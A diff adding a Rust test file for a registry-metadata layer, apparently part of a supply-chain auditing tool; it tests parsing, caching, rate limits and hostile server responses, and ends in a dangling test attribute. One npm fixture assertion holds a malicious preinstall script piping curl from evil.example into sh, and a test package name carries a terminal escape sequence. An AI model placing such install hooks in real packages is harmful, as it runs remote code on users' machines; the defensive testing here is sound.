@@ -1,0 +1,679 @@
+//! The registry metadata layer against an HTTP server on 127.0.0.1 started by each test,
+//! serving the fixtures in `testdata/registry/` (shaped like crates.io's, npm's and PyPI's
+//! responses): the three parsers, the cache (fresh, revalidated, offline), timeouts, the crates.io
+//! API rate limit, bounded concurrency, and hostile responses (huge, HTML, redirect loops,
+//! refused connections). No other network.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]
+
+#[path = "support/http_server.rs"]
+mod http_server;
+
+use std::collections::hash_map::DefaultHasher;
+use std::hash::{Hash, Hasher};
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+use chainward::model::Ecosystem;
+use chainward::registry::{Fetched, PackageMeta, RegistryConfig, Wanted, fetch};
+use http_server::{Reply, Request, Server, refusing_url};
+use time::OffsetDateTime;
+use time::macros::datetime;
+
+const NOW: OffsetDateTime = datetime!(2026-01-01 00:00:00 UTC);
+
+fn fixture(rel: &str) -> Vec<u8> {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/registry").join(rel);
+    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
+}
+
+fn etag(body: &[u8]) -> String {
+    let mut h = DefaultHasher::new();
+    body.hash(&mut h);
+    format!("\"{:016x}\"", h.finish())
+}
+
+/// A fixture as a registry serves it: JSON with an `ETag`, 304 when revalidated with it.
+fn serve_fixture(req: &Request, rel: &str) -> Reply {
+    let body = fixture(rel);
+    let tag = etag(&body);
+    if req.header("if-none-match") == Some(tag.as_str()) {
+        return Reply::status(304).with_header("ETag", &tag);
+    }
+    Reply::json(body).with_header("ETag", &tag)
+}
+
+/// The three registries under one server: `/index/` (any crate gets the demo index file),
+/// `/api/v1/crates/<any>/{versions,owners}`, `/npm/`, `/pypi/`.
+fn registries(req: &Request) -> Reply {
+    let path = req.path.as_str();
+    if path.starts_with("/index/") {
+        // Any crate: the demo's versions, under the name asked for.
+        let name = path.rsplit('/').next().unwrap();
+        let body = String::from_utf8(fixture("crates.io/index/ch/ai/chainward-demo")).unwrap();
+        let body = body.replace("\"name\":\"chainward-demo\"", &format!("\"name\":\"{name}\""));
+        return Reply::json(body);
+    }
+    if let Some(rest) = path.strip_prefix("/api/v1/crates/") {
+        if rest.ends_with("/versions") {
+            return serve_fixture(req, "crates.io/api/chainward-demo/versions.json");
+        }
+        if rest.ends_with("/owners") {
+            return serve_fixture(req, "crates.io/api/chainward-demo/owners.json");
+        }
+    }
+    match path {
+        "/npm/@demo%2Fwidget" => serve_fixture(req, "npm/@demo/widget.json"),
+        "/pypi/pypi/sampleproject/json" => serve_fixture(req, "pypi/sampleproject.json"),
+        "/pypi/pypi/urllib3/json" => serve_fixture(req, "pypi/urllib3.json"),
+        "/pypi/integrity/sampleproject/4.0.0/sampleproject-4.0.0.tar.gz/provenance" => {
+            serve_fixture(req, "pypi/integrity/sampleproject-4.0.0.tar.gz.provenance.json")
+        }
+        _ => Reply::status(404),
+    }
+}
+
+fn config(url: &str, cache: &Path) -> RegistryConfig {
+    let mut config = RegistryConfig::public(Some(cache.to_path_buf()), NOW);
+    config.crates_io_index = format!("{url}/index/");
+    config.crates_io_api = format!("{url}/api/v1");
+    config.npm = format!("{url}/npm");
+    config.pypi = format!("{url}/pypi");
+    config.timeout = Duration::from_secs(5);
+    config.crates_io_api_interval = Duration::from_millis(10);
+    config
+}
+
+fn wanted(ecosystem: Ecosystem, name: &str, versions: &[&str]) -> Wanted {
+    Wanted { ecosystem, name: name.to_owned(), versions: versions.iter().map(|v| (*v).to_owned()).collect() }
+}
+
+fn all(_: &PackageMeta, _: &str) -> bool {
+    true
+}
+
+fn none(_: &PackageMeta, _: &str) -> bool {
+    false
+}
+
+fn package<'a>(fetched: &'a Fetched, ecosystem: Ecosystem, name: &str) -> &'a PackageMeta {
+    fetched
+        .packages
+        .get(&(ecosystem, name.to_owned()))
+        .unwrap_or_else(|| panic!("{name} missing: {:?} / {:?}", fetched.failures, fetched.not_found))
+}
+
+#[test]
+fn crates_io_index_and_api_fill_publishers_provenance_repositories_and_owners() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let fetched =
+        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
+    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
+    let meta = package(&fetched, Ecosystem::Cargo, "chainward-demo");
+    assert!(meta.detailed);
+    assert_eq!(meta.name, "chainward-demo");
+    let order: Vec<&str> = meta.versions.iter().map(|v| v.version.as_str()).collect();
+    assert_eq!(order, ["0.1.0", "0.2.0", "0.2.1", "0.3.0", "0.3.1"]);
+
+    let v010 = meta.version("0.1.0").unwrap();
+    // No `pubtime` in the index: the API's `created_at`; no `published_by`: no publisher.
+    assert_eq!(v010.published_at, Some(datetime!(2016-05-04 17:53:39.094466 UTC)));
+    assert_eq!(v010.publisher, None);
+    assert_eq!(v010.provenance, Some(None));
+    assert_eq!(v010.repository, None);
+
+    let v020 = meta.version("0.2.0").unwrap();
+    assert_eq!(v020.published_at, Some(datetime!(2024-03-01 12:00:00 UTC)));
+    let alice = v020.publisher.as_ref().unwrap();
+    assert_eq!((alice.id.as_str(), alice.display.as_str(), alice.trusted), ("github:alice", "@alice", false));
+    assert_eq!(v020.yanked, Some(false));
+    assert_eq!(v020.checksums, ["sha256:911fc0c48cb0c70601db5775a9bef1b740dc4cc9f9b46389b9f0563fe7eb94d7"]);
+    assert_eq!(v020.repository.as_deref(), Some("https://github.com/chainward/demo"));
+
+    assert_eq!(meta.version("0.2.1").unwrap().yanked, Some(true));
+
+    let v030 = meta.version("0.3.0").unwrap();
+    let trusted = v030.publisher.as_ref().unwrap();
+    assert_eq!(trusted.id, "trustpub:github:chainward/demo");
+    assert!(trusted.trusted);
+    let provenance = v030.provenance.clone().unwrap().unwrap();
+    assert_eq!(provenance.repository.as_deref(), Some("https://github.com/chainward/demo"));
+
+    let v031 = meta.version("0.3.1").unwrap();
+    assert_eq!(v031.publisher.as_ref().unwrap().id, "github:mallory");
+    assert_eq!(v031.provenance, Some(None));
+    assert_eq!(v031.repository.as_deref(), Some("https://github.com/mallory/demo-fork"));
+    assert!(v031.install_scripts.is_empty());
+    assert_eq!(v031.maintainers, None);
+    assert_eq!(meta.earlier("0.3.1").len(), 4);
+
+    let owners: Vec<&str> = meta.owners.as_ref().unwrap().iter().map(|o| o.id.as_str()).collect();
+    assert_eq!(owners, ["github:alice", "team:github:chainward:release"]);
+    // First look: nothing to compare with yet.
+    assert!(meta.owner_changes.is_empty());
+
+    let paths: Vec<String> = server.requests().into_iter().map(|r| r.path).collect();
+    assert!(paths.contains(&"/index/ch/ai/chainward-demo".to_owned()), "{paths:?}");
+    assert!(paths.contains(&"/api/v1/crates/chainward-demo/versions".to_owned()));
+    assert!(paths.contains(&"/api/v1/crates/chainward-demo/owners".to_owned()));
+    for r in server.requests() {
+        assert!(r.header("user-agent").unwrap().starts_with("chainward/"), "{:?}", r.header("user-agent"));
+    }
+    assert_eq!(fetched.requests, 3);
+}
+
+#[test]
+fn crates_io_owner_changes_are_seen_between_runs() {
+    let cache = tempfile::tempdir().unwrap();
+    let first = Server::start(registries);
+    fetch(&config(&first.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
+    let second = Server::start(|req: &Request| {
+        if req.path.ends_with("/owners") {
+            return Reply::json(
+                r#"{"users":[{"id":6666,"login":"mallory","kind":"user","url":"https://github.com/mallory","name":null,"avatar":null}]}"#,
+            );
+        }
+        registries(req)
+    });
+    let mut later = config(&second.url, cache.path());
+    later.now = NOW + Duration::from_secs(30 * 86400);
+    let fetched = fetch(&later, &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
+    let meta = package(&fetched, Ecosystem::Cargo, "chainward-demo");
+    let changes: Vec<(String, bool)> = meta.owner_changes.iter().map(|c| (c.owner.clone(), c.added)).collect();
+    assert!(changes.contains(&("github:mallory".to_owned(), true)), "{changes:?}");
+    assert!(changes.contains(&("github:alice".to_owned(), false)));
+    assert!(changes.contains(&("team:github:chainward:release".to_owned(), false)));
+    assert!(meta.owner_changes.iter().all(|c| c.at == later.now && c.evidence == "crates.io owners snapshot"));
+}
+
+#[test]
+fn crates_io_index_alone_when_details_are_not_wanted() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let fetched =
+        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &none);
+    let meta = package(&fetched, Ecosystem::Cargo, "chainward-demo");
+    assert!(!meta.detailed);
+    let v = meta.version("0.1.0").unwrap();
+    assert_eq!((v.published_at, v.publisher.clone(), v.provenance.clone()), (None, None, None));
+    assert_eq!(meta.version("0.2.1").unwrap().yanked, Some(true));
+    assert_eq!(meta.owners, None);
+    assert_eq!(fetched.requests, 1);
+    assert!(server.requests_to("/api/").is_empty());
+}
+
+#[test]
+fn npm_packument_gives_publishers_scripts_provenance_and_maintainer_changes() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let fetched =
+        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"])], &none);
+    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
+    let meta = package(&fetched, Ecosystem::Npm, "@demo/widget");
+    assert!(meta.detailed);
+    assert_eq!(meta.name, "@demo/widget");
+    let order: Vec<&str> = meta.versions.iter().map(|v| v.version.as_str()).collect();
+    assert_eq!(order, ["1.0.0", "1.1.0", "1.2.0", "2.0.0", "2.0.1"]);
+    assert_eq!(server.requests()[0].path, "/npm/@demo%2Fwidget");
+    assert_eq!(server.requests()[0].header("accept"), Some("application/json"));
+
+    let v100 = meta.version("1.0.0").unwrap();
+    assert_eq!(v100.published_at, Some(datetime!(2023-01-10 09:00:00.123 UTC)));
+    assert_eq!(v100.publisher.as_ref().unwrap().id, "npm:alice");
+    assert!(!v100.publisher.as_ref().unwrap().trusted);
+    assert_eq!(v100.yanked, Some(false));
+    assert_eq!(v100.provenance, Some(None));
+    assert_eq!(v100.repository.as_deref(), Some("https://github.com/demo/widget"));
+    assert!(v100.install_scripts.is_empty(), "test/build scripts are not install scripts");
+    assert_eq!(v100.checksums.len(), 2);
+    assert!(v100.checksums[0].starts_with("sha512:"));
+    assert!(v100.checksums[1].starts_with("sha1:"));
+    assert_eq!(v100.maintainers.as_deref(), Some(&["npm:alice".to_owned()][..]));
+
+    // In `time` but no longer in `versions`: unpublished.
+    let gone = meta.version("1.2.0").unwrap();
+    assert_eq!(gone.yanked, Some(true));
+    assert_eq!(gone.published_at, Some(datetime!(2023-07-01 08:00:00 UTC)));
+
+    let v200 = meta.version("2.0.0").unwrap();
+    let trusted = v200.publisher.as_ref().unwrap();
+    assert!(trusted.trusted);
+    assert_eq!(trusted.id, "npm:GitHub Actions");
+    let provenance = v200.provenance.clone().unwrap().unwrap();
+    assert_eq!(provenance.repository.as_deref(), Some("https://github.com/demo/widget"));
+    assert_eq!(v200.install_scripts.get("postinstall").map(String::as_str), Some("node install.js"));
+
+    let v201 = meta.version("2.0.1").unwrap();
+    assert_eq!(v201.publisher.as_ref().unwrap().id, "npm:mallory");
+    assert_eq!(v201.provenance, Some(None));
+    assert_eq!(
+        v201.install_scripts.get("preinstall").map(String::as_str),
+        Some("curl -s https://evil.example/x.sh | sh")
+    );
+    assert_eq!(v201.repository.as_deref(), Some("https://github.com/m4ll0ry/widget"));
+
+    let owners: Vec<&str> = meta.owners.as_ref().unwrap().iter().map(|o| o.id.as_str()).collect();
+    assert_eq!(owners, ["npm:bob", "npm:mallory"]);
+    let changes: Vec<(String, &str, bool, OffsetDateTime)> =
+        meta.owner_changes.iter().map(|c| (c.owner.clone(), c.evidence.as_str(), c.added, c.at)).collect();
+    assert_eq!(
+        changes,
+        [
+            ("npm:bob".to_owned(), "npm maintainers of 1.1.0", true, datetime!(2023-06-01 14:22:05.456 UTC)),
+            ("npm:alice".to_owned(), "npm maintainers of 2.0.0", false, datetime!(2025-09-01 16:03:41.470 UTC)),
+            ("npm:mallory".to_owned(), "npm maintainers of 2.0.1", true, datetime!(2025-10-01 02:11:09.999 UTC)),
+        ]
+    );
+}
+
+#[test]
+fn pypi_releases_owners_yanked_and_provenance_of_the_versions_in_use() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let fetched = fetch(
+        &config(&server.url, cache.path()),
+        &[wanted(Ecosystem::PyPI, "SampleProject", &["4.0.0"]), wanted(Ecosystem::PyPI, "urllib3", &["2.0.1"])],
+        &|meta: &PackageMeta, _: &str| meta.name == "sampleproject",
+    );
+    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
+    let meta = package(&fetched, Ecosystem::PyPI, "sampleproject");
+    assert!(meta.detailed);
+    let order: Vec<&str> = meta.versions.iter().map(|v| v.version.as_str()).collect();
+    // 1.0 has no files (no upload time): first.
+    assert_eq!(order, ["1.0", "1.2.0", "1.3.0", "1.3.1", "2.0.0", "3.0.0", "4.0.0"]);
+    let v400 = meta.version("4.0.0").unwrap();
+    // The earliest upload among the release's files (the wheel).
+    assert_eq!(v400.published_at, Some(datetime!(2024-11-06 22:37:09.220617 UTC)));
+    assert_eq!(v400.yanked, Some(false));
+    assert_eq!(
+        v400.checksums,
+        [
+            "sha256:0ace7980f82c5815ede4cd7bf9f6693684cec2ae47b9b7ade9add533b8627c6b",
+            "sha256:c23e447ea90d796d1e645c35c4b2de125040add12a845825546f91c93f391b6b"
+        ]
+    );
+    assert_eq!(v400.repository.as_deref(), Some("https://github.com/pypa/sampleproject"));
+    let publisher = v400.publisher.as_ref().unwrap();
+    assert_eq!(publisher.id, "trustpub:github:pypa/sampleproject");
+    assert!(publisher.trusted);
+    let provenance = v400.provenance.clone().unwrap().unwrap();
+    assert_eq!(provenance.repository.as_deref(), Some("https://github.com/pypa/sampleproject"));
+    assert_eq!(provenance.workflow.as_deref(), Some(".github/workflows/release.yml"));
+    // The release before: asked, none (404).
+    let v300 = meta.version("3.0.0").unwrap();
+    assert_eq!(v300.provenance, Some(None));
+    assert_eq!(v300.publisher, None);
+    // Not asked.
+    assert_eq!(meta.version("2.0.0").unwrap().provenance, None);
+    assert_eq!(meta.version("1.0").unwrap().yanked, None);
+    let provenance_requests = server.requests_to("/pypi/integrity/");
+    assert_eq!(provenance_requests.len(), 2);
+    assert!(provenance_requests.iter().all(|r| r.header("accept") == Some("application/vnd.pypi.integrity.v1+json")));
+    assert!(provenance_requests.iter().any(|r| r.path.ends_with("/3.0.0/sampleproject-3.0.0.tar.gz/provenance")));
+    let owners: Vec<(&str, Option<&str>)> =
+        meta.owners.as_ref().unwrap().iter().map(|o| (o.id.as_str(), o.role.as_deref())).collect();
+    assert_eq!(owners, [("pypi-org:pypa", Some("Organization"))]);
+
+    let urllib3 = package(&fetched, Ecosystem::PyPI, "urllib3");
+    assert!(!urllib3.detailed);
+    assert_eq!(urllib3.version("2.0.1").unwrap().yanked, Some(true));
+    assert_eq!(urllib3.version("2.0.2").unwrap().yanked, Some(false));
+    assert_eq!(urllib3.version("2.0.1").unwrap().provenance, None);
+    let owners: Vec<(&str, Option<&str>)> =
+        urllib3.owners.as_ref().unwrap().iter().map(|o| (o.id.as_str(), o.role.as_deref())).collect();
+    assert_eq!(
+        owners,
+        [("pypi:SethMichaelLarson", Some("Owner")), ("pypi:illia-v", Some("Owner")), ("pypi:shazow", Some("Owner"))]
+    );
+}
+
+#[test]
+fn a_second_fetch_within_the_ttl_sends_no_request() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let config = config(&server.url, cache.path());
+    let want =
+        [wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"]), wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])];
+    let first = fetch(&config, &want, &all);
+    assert_eq!((first.requests, first.cache_hits), (4, 0));
+    let second = fetch(&config, &want, &all);
+    assert_eq!((second.requests, second.cache_hits), (0, 4));
+    assert_eq!(server.requests().len(), 4);
+    assert_eq!(first.packages, second.packages);
+    assert!(cache.path().join("npm").is_dir() && cache.path().join("crates.io-index").is_dir());
+}
+
+#[test]
+fn a_stale_entry_is_revalidated_with_if_none_match_and_the_304_is_used() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let mut config = config(&server.url, cache.path());
+    let want = [wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"])];
+    let first = fetch(&config, &want, &none);
+    config.now = NOW + config.ttl + Duration::from_secs(60);
+    let second = fetch(&config, &want, &none);
+    assert_eq!((second.requests, second.cache_hits), (1, 1));
+    let requests = server.requests();
+    assert_eq!(requests.len(), 2);
+    assert_eq!(requests[0].header("if-none-match"), None);
+    let tag = etag(&fixture("npm/@demo/widget.json"));
+    assert_eq!(requests[1].header("if-none-match"), Some(tag.as_str()));
+    assert_eq!(first.packages, second.packages);
+    // The 304 refreshed the entry: a minute later it is fresh again.
+    config.now += Duration::from_secs(60);
+    let third = fetch(&config, &want, &none);
+    assert_eq!((third.requests, third.cache_hits), (0, 1));
+}
+
+#[test]
+fn offline_uses_only_the_cache_whatever_its_age_and_reports_a_miss() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let mut config = config(&server.url, cache.path());
+    fetch(&config, &[wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"])], &none);
+    let before = server.requests().len();
+    config.offline = true;
+    config.now = NOW + Duration::from_secs(365 * 86400);
+    let fetched = fetch(
+        &config,
+        &[wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"]), wanted(Ecosystem::Npm, "left-pad", &["1.3.0"])],
+        &none,
+    );
+    assert_eq!(server.requests().len(), before, "offline touched the network");
+    assert_eq!(fetched.requests, 0);
+    assert_eq!(fetched.cache_hits, 1);
+    package(&fetched, Ecosystem::Npm, "@demo/widget");
+    assert_eq!(fetched.failures.len(), 1);
+    assert_eq!(fetched.failures[0].registry, "npm");
+    assert_eq!(fetched.failures[0].packages, ["left-pad"]);
+    assert!(fetched.failures[0].message.contains("not in the cache (offline)"), "{}", fetched.failures[0].message);
+}
+
+#[test]
+fn a_registry_that_never_answers_or_trickles_times_out_and_the_others_still_answer() {
+    let hanging = Server::start(|req: &Request| if req.path == "/npm/trickle" { Reply::Trickle } else { Reply::Hang });
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let mut config = config(&server.url, cache.path());
+    config.npm = format!("{}/npm", hanging.url);
+    config.timeout = Duration::from_millis(500);
+    let t0 = Instant::now();
+    let fetched = fetch(
+        &config,
+        &[
+            wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"]),
+            wanted(Ecosystem::Npm, "trickle", &["1.0.0"]),
+            wanted(Ecosystem::PyPI, "urllib3", &["2.8.0"]),
+        ],
+        &none,
+    );
+    assert!(t0.elapsed() < Duration::from_secs(4), "took {:?}", t0.elapsed());
+    package(&fetched, Ecosystem::PyPI, "urllib3");
+    assert_eq!(fetched.failures.len(), 1, "{:?}", fetched.failures);
+    let failure = &fetched.failures[0];
+    assert_eq!(failure.registry, "npm");
+    assert_eq!(failure.packages, ["@demo/widget", "trickle"]);
+    assert!(failure.message.contains("timed out"), "{}", failure.message);
+}
+
+#[test]
+fn crates_io_api_requests_are_spaced_by_the_interval_and_index_requests_are_not() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let mut config = config(&server.url, cache.path());
+    let interval = Duration::from_millis(300);
+    config.crates_io_api_interval = interval;
+    config.concurrency = 4;
+    let want: Vec<Wanted> = ["aaaa", "bbbb", "cccc"].iter().map(|n| wanted(Ecosystem::Cargo, n, &["0.3.1"])).collect();
+    let t0 = Instant::now();
+    let fetched = fetch(&config, &want, &all);
+    let elapsed = t0.elapsed();
+    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
+    let api = server.requests_to("/api/");
+    assert_eq!(api.len(), 6);
+    // Six starts, each at least an interval after the one before.
+    assert!(elapsed >= interval * 5, "{elapsed:?}");
+    for pair in api.windows(2) {
+        let gap = pair[1].at.duration_since(pair[0].at);
+        assert!(gap + Duration::from_millis(30) >= interval, "API requests {gap:?} apart");
+    }
+    // Throttled, three index requests would span two intervals.
+    let index = server.requests_to("/index/");
+    assert_eq!(index.len(), 3);
+    let spread = index.last().unwrap().at.duration_since(index[0].at);
+    assert!(spread < interval * 2, "index requests throttled: {spread:?}");
+
+    // Cache hits are not throttled (six of them would take five intervals).
+    let t0 = Instant::now();
+    let again = fetch(&config, &want, &all);
+    assert_eq!(again.requests, 0);
+    assert!(t0.elapsed() < interval * 4, "{:?}", t0.elapsed());
+}
+
+#[test]
+fn a_body_larger_than_max_body_is_a_bounded_error() {
+    let server = Server::start(|req: &Request| match req.path.as_str() {
+        "/npm/streamed" => Reply::Stream { bytes: 1 << 30 },
+        "/npm/declared" => Reply::json(Vec::new()).with_header("Content-Length", "10737418240"),
+        _ => registries(req),
+    });
+    let cache = tempfile::tempdir().unwrap();
+    let mut config = config(&server.url, cache.path());
+    config.max_body = 64 << 10;
+    let t0 = Instant::now();
+    let fetched = fetch(
+        &config,
+        &[
+            wanted(Ecosystem::Npm, "streamed", &["1.0.0"]),
+            wanted(Ecosystem::Npm, "declared", &["1.0.0"]),
+            wanted(Ecosystem::PyPI, "urllib3", &["2.8.0"]),
+        ],
+        &none,
+    );
+    assert!(t0.elapsed() < Duration::from_secs(4), "took {:?}", t0.elapsed());
+    package(&fetched, Ecosystem::PyPI, "urllib3");
+    assert_eq!(fetched.failures.len(), 1, "{:?}", fetched.failures);
+    assert_eq!(fetched.failures[0].packages, ["declared", "streamed"]);
+    assert!(fetched.failures[0].message.contains("larger than 65536 bytes"), "{}", fetched.failures[0].message);
+    // Nothing of it was cached.
+    let again = fetch(&config, &[wanted(Ecosystem::Npm, "streamed", &["1.0.0"])], &none);
+    assert_eq!(again.requests, 1);
+}
+
+#[test]
+fn html_instead_of_json_and_server_errors_are_reported_per_kind() {
+    let server = Server::start(|req: &Request| match req.path.as_str() {
+        "/pypi/pypi/portal/json" => Reply::Full {
+            status: 200,
+            headers: vec![("Content-Type".into(), "text/html; charset=utf-8".into())],
+            body: b"<!DOCTYPE html><html><body>Sign in to the Wi-Fi</body></html>".to_vec(),
+        },
+        "/pypi/pypi/broken/json" => Reply::Full {
+            status: 503,
+            headers: vec![("Content-Type".into(), "text/html".into())],
+            body: b"<html>upstream error</html>".to_vec(),
+        },
+        "/pypi/pypi/wrong-shape/json" => Reply::json(r#"{"releases": {}}"#),
+        _ => registries(req),
+    });
+    let cache = tempfile::tempdir().unwrap();
+    let fetched = fetch(
+        &config(&server.url, cache.path()),
+        &[
+            wanted(Ecosystem::PyPI, "portal", &["1"]),
+            wanted(Ecosystem::PyPI, "broken", &["1"]),
+            wanted(Ecosystem::PyPI, "wrong_shape", &["1"]),
+            wanted(Ecosystem::PyPI, "urllib3", &["2.8.0"]),
+            wanted(Ecosystem::Npm, "evil\u{1b}[2Jname", &["1"]),
+        ],
+        &none,
+    );
+    package(&fetched, Ecosystem::PyPI, "urllib3");
+    assert_eq!(fetched.not_found, [(Ecosystem::Npm, "evil\u{1b}[2Jname".to_owned())]);
+    let messages: Vec<String> =
+        fetched.failures.iter().map(|f| format!("{} {:?}: {}", f.registry, f.packages, f.message)).collect();
+    assert_eq!(messages.len(), 3, "{messages:?}");
+    assert!(
+        messages.iter().any(|m| m.contains("[\"portal\"]") && m.contains("expected JSON, got HTML")),
+        "{messages:?}"
+    );
+    assert!(messages.iter().any(|m| m.contains("[\"broken\"]") && m.contains("HTTP 503")), "{messages:?}");
+    assert!(
+        messages.iter().any(|m| m.contains("[\"wrong_shape\"]") && m.contains("missing field `info`")),
+        "{messages:?}"
+    );
+    assert!(fetched.failures.iter().all(|f| f.message.chars().all(|c| !c.is_control())));
+}
+
+#[test]
+fn a_redirect_loop_is_a_bounded_error() {
+    let server = Server::start(|req: &Request| match req.path.as_str() {
+        "/npm/loop" => Reply::status(302).with_header("Location", "/npm/loop"),
+        _ => registries(req),
+    });
+    let cache = tempfile::tempdir().unwrap();
+    let fetched = fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Npm, "loop", &["1"])], &none);
+    assert_eq!(fetched.failures.len(), 1);
+    assert!(fetched.failures[0].message.contains("redirects"), "{}", fetched.failures[0].message);
+    assert!(server.requests_to("/npm/loop").len() <= 6);
+}
+
+#[test]
+fn a_refusing_registry_is_reported_once_with_all_its_packages() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let mut config = config(&server.url, cache.path());
+    config.npm = refusing_url();
+    config.concurrency = 2;
+    let mut want: Vec<Wanted> = (0..6).map(|i| wanted(Ecosystem::Npm, &format!("pkg{i}"), &["1.0.0"])).collect();
+    want.push(wanted(Ecosystem::PyPI, "urllib3", &["2.8.0"]));
+    want.push(wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"]));
+    let fetched = fetch(&config, &want, &none);
+    package(&fetched, Ecosystem::PyPI, "urllib3");
+    package(&fetched, Ecosystem::Cargo, "chainward-demo");
+    assert_eq!(fetched.failures.len(), 1, "{:?}", fetched.failures);
+    let failure = &fetched.failures[0];
+    assert_eq!(failure.registry, "npm");
+    assert_eq!(failure.packages, (0..6).map(|i| format!("pkg{i}")).collect::<Vec<_>>());
+    assert!(failure.message.contains("stopped asking npm after 3 connection failures"), "{}", failure.message);
+    // At most the breaker's threshold (plus what was already in flight) reached the network.
+    assert!(fetched.requests <= 2 + 3 + 1, "{}", fetched.requests);
+}
+
+#[test]
+fn requests_in_flight_never_exceed_concurrency() {
+    let server = Server::start(|req: &Request| {
+        let reply =
+            if req.path.starts_with("/npm/") { serve_fixture(req, "npm/@demo/widget.json") } else { registries(req) };
+        Reply::Delayed(Duration::from_millis(100), Box::new(reply))
+    });
+    let cache = tempfile::tempdir().unwrap();
+    let mut config = config(&server.url, cache.path());
+    config.concurrency = 3;
+    let want: Vec<Wanted> = (0..12).map(|i| wanted(Ecosystem::Npm, &format!("pkg{i}"), &["1.0.0"])).collect();
+    let fetched = fetch(&config, &want, &none);
+    assert_eq!(fetched.packages.len(), 12);
+    assert_eq!(server.requests().len(), 12);
+    assert!(server.max_in_flight() <= 3, "{} in flight", server.max_in_flight());
+    assert!(server.max_in_flight() >= 2, "no concurrency at all");
+}
+
+#[test]
+fn not_found_is_an_answer_and_is_cached() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let config = config(&server.url, cache.path());
+    let want =
+        [wanted(Ecosystem::Cargo, "no-such-crate", &["1.0.0"]), wanted(Ecosystem::PyPI, "No_Such.Project", &["1"])];
+    let server404 = Server::start(|_: &Request| Reply::status(404));
+    let mut config404 = config.clone();
+    config404.crates_io_index = format!("{}/index/", server404.url);
+    let fetched = fetch(&config404, &want, &all);
+    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
+    assert_eq!(
+        fetched.not_found,
+        [(Ecosystem::Cargo, "no-such-crate".to_owned()), (Ecosystem::PyPI, "no-such-project".to_owned())]
+    );
+    assert!(server.requests_to("/pypi/pypi/no-such-project/json").len() == 1);
+    let again = fetch(&config404, &want, &all);
+    assert_eq!((again.requests, again.cache_hits), (0, 2));
+    assert_eq!(again.not_found, fetched.not_found);
+}
+
+#[test]
+fn ecosystems_without_a_client_are_ignored() {
+    let server = Server::start(registries);
+    let cache = tempfile::tempdir().unwrap();
+    let fetched =
+        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Go, "golang.org/x/text", &["v0.3.0"])], &all);
+    assert!(fetched.packages.is_empty() && fetched.failures.is_empty() && fetched.not_found.is_empty());
+    assert!(server.requests().is_empty());
+}
+
+#[test]
+fn a_stale_entry_is_used_with_a_note_when_the_registry_fails() {
+    let down = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let flag = std::sync::Arc::clone(&down);
+    let server = Server::start(move |req: &Request| {
+        if flag.load(std::sync::atomic::Ordering::SeqCst) { Reply::status(503) } else { registries(req) }
+    });
+    let cache = tempfile::tempdir().unwrap();
+    let mut config = config(&server.url, cache.path());
+    let want = [wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"])];
+    let first = fetch(&config, &want, &none);
+    down.store(true, std::sync::atomic::Ordering::SeqCst);
+    config.now = NOW + config.ttl * 2;
+    let fetched = fetch(&config, &want, &none);
+    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
+    assert_eq!(first.packages, fetched.packages);
+    assert_eq!((fetched.requests, fetched.cache_hits), (1, 1));
+    assert_eq!(fetched.notes.len(), 1, "{:?}", fetched.notes);
+    assert!(fetched.notes[0].contains("using the copy cached at 2026-01-01T00:00:00Z"), "{:?}", fetched.notes);
+}
+
+#[test]
+fn a_malformed_index_line_is_skipped_with_a_note() {
+    let server = Server::start(|req: &Request| {
+        if req.path.starts_with("/index/") {
+            let mut body = fixture("crates.io/index/ch/ai/chainward-demo");
+            body.extend_from_slice(b"{\"name\":\"chainward-demo\",\"vers\":\n<html>\n");
+            return Reply::json(body);
+        }
+        registries(req)
+    });
+    let cache = tempfile::tempdir().unwrap();
+    let fetched =
+        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &none);
+    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
+    assert_eq!(package(&fetched, Ecosystem::Cargo, "chainward-demo").versions.len(), 5);
+    assert_eq!(fetched.notes.len(), 2, "{:?}", fetched.notes);
+    assert!(fetched.notes[0].contains("line 6 skipped"), "{:?}", fetched.notes);
+}
+
+#[test]
